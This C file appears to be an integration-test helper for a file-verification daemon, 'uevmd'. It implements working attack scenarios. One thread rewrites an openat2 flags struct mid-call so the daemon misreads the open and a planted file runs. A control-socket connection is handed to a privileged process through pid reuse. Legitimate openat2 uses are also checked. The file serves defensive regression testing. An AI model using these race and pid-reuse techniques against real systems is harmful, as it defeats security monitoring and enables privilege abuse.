// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Attacks on uevmd that need more than a shell (tests/integration/
 * uevmd_attack_review.sh builds and runs this as an unprivileged user).
 *
 *   forge-openat2 DIR NAME BIG
 *	An offline attacker planted DIR/NAME (unlabelled; DIR is the
 *	user's).  The user holds it by an O_PATH descriptor (no open event),
 *	unlinks it (its link count drops to 0, as a fresh O_TMPFILE's is),
 *	and opens it again through /proc/self/fd with openat2(O_RDONLY).
 *	The kernel copied struct open_how at the call; while the open waits
 *	for uevmd, a second thread rewrites the struct in memory to
 *	O_TMPFILE|O_RDWR, which is what uevmd reads back from the process.
 *	To be sure the rewrite comes first, the user first keeps uevmd's
 *	worker busy hashing BIG (a sparse file of their own).  Prints
 *	"open: ok" or "open: ERRNO", then, if the open passed, runs the file
 *	with execveat(AT_EMPTY_PATH): "exec: ..." (its output follows).
 *
 *   openat2-tmpfile DIR NAME TEXT, openat2-append FILE TEXT
 *	What must keep working: a file made with openat2(O_TMPFILE), TEXT
 *	written, linked as DIR/NAME; TEXT appended with openat2(O_WRONLY|
 *	O_APPEND).  Print "ok" or the error.
 *
 *   ctl-handoff SOCK REQUEST [PROGRAM ARG...]
 *	Connects to uevmd's control socket (run without CAP_SYS_ADMIN),
 *	forks a child that keeps the connection, prints "pid PID" (its own)
 *	and exits, or runs PROGRAM (a setuid-root one: the connecting pid
 *	then shows every capability).  The child waits for a line on stdin
 *	(by then the test has given PID to a process with every capability,
 *	as an attacker gets it by cycling the pid space, or PROGRAM runs),
 *	sends REQUEST and prints the first line of the reply ("reply: ...";
 *	"reply:" alone when uevmd closed the connection).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static struct open_how how;
static pid_t opener_tid, big_tid;
static const char *big_path;

static time_t now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec;
}

/*
 * Wait until thread TID is blocked in syscall NR: 120 s at most, a bound
 * only against a hang (a loaded machine may take seconds to get there).
 */
static int wait_in_syscall(pid_t tid, long nr)
{
	char path[64], buf[256];
	time_t end = now_s() + 120;

	snprintf(path, sizeof(path), "/proc/self/task/%d/syscall", (int)tid);
	while (now_s() < end) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);

		if (fd >= 0)
			close(fd);
		if (n > 0) {
			buf[n] = '\0';
			if (strtol(buf, NULL, 10) == nr && strncmp(buf, "running", 7))
				return 0;
		}
		usleep(50);
	}
	return -1;
}

static void *open_big(void *arg)
{
	int fd;

	(void)arg;
	big_tid = gettid();
	fd = open(big_path, O_RDONLY);
	if (fd >= 0)
		close(fd);
	return NULL;
}

static void *forger(void *a)
{
	(void)a;
	if (wait_in_syscall(opener_tid, SYS_openat2) == 0)
		__atomic_store_n(&how.flags, (unsigned long long)(O_TMPFILE | O_RDWR),
				 __ATOMIC_SEQ_CST);
	return NULL;
}

static int forge_openat2(const char *dir, const char *name, const char *big)
{
	char again[64];
	pthread_t t, f;
	int dfd, pfd, fd;
	pid_t child;
	int status;

	big_path = big;
	dfd = open(dir, O_RDONLY | O_DIRECTORY);
	pfd = dfd < 0 ? -1 : openat(dfd, name, O_PATH);
	if (pfd < 0 || unlinkat(dfd, name, 0) < 0) {
		printf("setup: %s\n", strerror(errno));
		return 2;
	}
	snprintf(again, sizeof(again), "/proc/self/fd/%d", pfd);

	/* The user's own big file keeps the worker busy. */
	pthread_create(&t, NULL, open_big, NULL);
	while (!__atomic_load_n(&big_tid, __ATOMIC_SEQ_CST))
		usleep(100);
	if (wait_in_syscall(big_tid, SYS_openat) < 0) {
		printf("setup: the big open did not wait\n");
		return 2;
	}
	/* The forger: once the open below is inside the kernel (its struct
	 * copied), rewrite the struct. */
	opener_tid = gettid();
	pthread_create(&f, NULL, forger, NULL);
	memset(&how, 0, sizeof(how));
	how.flags = O_RDONLY;
	fd = (int)syscall(SYS_openat2, AT_FDCWD, again, &how, sizeof(how));
	pthread_join(f, NULL);
	pthread_join(t, NULL);
	if (fd < 0) {
		printf("open: %s\n", errno == EACCES ? "EACCES" : errno == EPERM ? "EPERM" :
		       strerror(errno));
		return 1;
	}
	printf("open: ok\n");
	fflush(stdout);
	child = fork();
	if (child == 0) {
		char *argv[] = { (char *)"planted", (char *)"-u", NULL };
		char *envp[] = { NULL };

		syscall(SYS_execveat, pfd, "", argv, envp, AT_EMPTY_PATH);
		printf("exec: %s\n", errno == EACCES ? "EACCES" : strerror(errno));
		_exit(1);
	}
	waitpid(child, &status, 0);
	return 0;
}

static int openat2_flags(int dfd, const char *path, unsigned long long flags)
{
	struct open_how h = { .flags = flags, .mode = (flags & O_TMPFILE) == O_TMPFILE ? 0644 : 0 };

	return (int)syscall(SYS_openat2, dfd, path, &h, sizeof(h));
}

static int say_result(int ok)
{
	printf("%s\n", ok ? "ok" : strerror(errno));
	return ok ? 0 : 1;
}

static int openat2_tmpfile(const char *dir, const char *name, const char *text)
{
	char proc[64];
	int fd = openat2_flags(AT_FDCWD, dir, O_TMPFILE | O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		return say_result(0);
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
	if (linkat(AT_FDCWD, proc, AT_FDCWD, name, AT_SYMLINK_FOLLOW) < 0)
		return say_result(0);
	return say_result(close(fd) == 0);
}

static int openat2_append(const char *path, const char *text)
{
	int fd = openat2_flags(AT_FDCWD, path, O_WRONLY | O_APPEND);

	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		return say_result(0);
	return say_result(close(fd) == 0);
}

static int ctl_handoff(const char *sock, const char *request, char **prog)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char line[512];
	ssize_t n;
	int fd;

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		printf("connect: %s\n", strerror(errno));
		return 1;
	}
	switch (fork()) {
	case -1:
		printf("fork: %s\n", strerror(errno));
		return 1;
	default:
		printf("pid %d\n", (int)getpid());
		if (prog[0]) {
			fflush(stdout);
			execv(prog[0], prog);
			printf("exec: %s\n", strerror(errno));
			return 1;
		}
		return 0;
	case 0:
		break;
	}
	if (!fgets(line, sizeof(line), stdin))
		return 1;
	snprintf(line, sizeof(line), "%s\n", request);
	if (write(fd, line, strlen(line)) < 0) {
		printf("write: %s\n", strerror(errno));
		return 1;
	}
	n = read(fd, line, sizeof(line) - 1);
	line[n > 0 ? n : 0] = '\0';
	line[strcspn(line, "\n")] = '\0';
	printf("reply: %s\n", line);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 5 && !strcmp(argv[1], "openat2-tmpfile"))
		return openat2_tmpfile(argv[2], argv[3], argv[4]);
	if (argc == 4 && !strcmp(argv[1], "openat2-append"))
		return openat2_append(argv[2], argv[3]);
	if (argc == 5 && !strcmp(argv[1], "forge-openat2"))
		return forge_openat2(argv[2], argv[3], argv[4]);
	if (argc >= 4 && !strcmp(argv[1], "ctl-handoff"))
		return ctl_handoff(argv[2], argv[3], argv + 4);
	fprintf(stderr, "usage: %s forge-openat2 DIR NAME BIG | openat2-tmpfile DIR NAME TEXT | openat2-append FILE TEXT | ctl-handoff SOCK REQUEST [PROGRAM ARG...]\n", argv[0]);
	return 2;
}
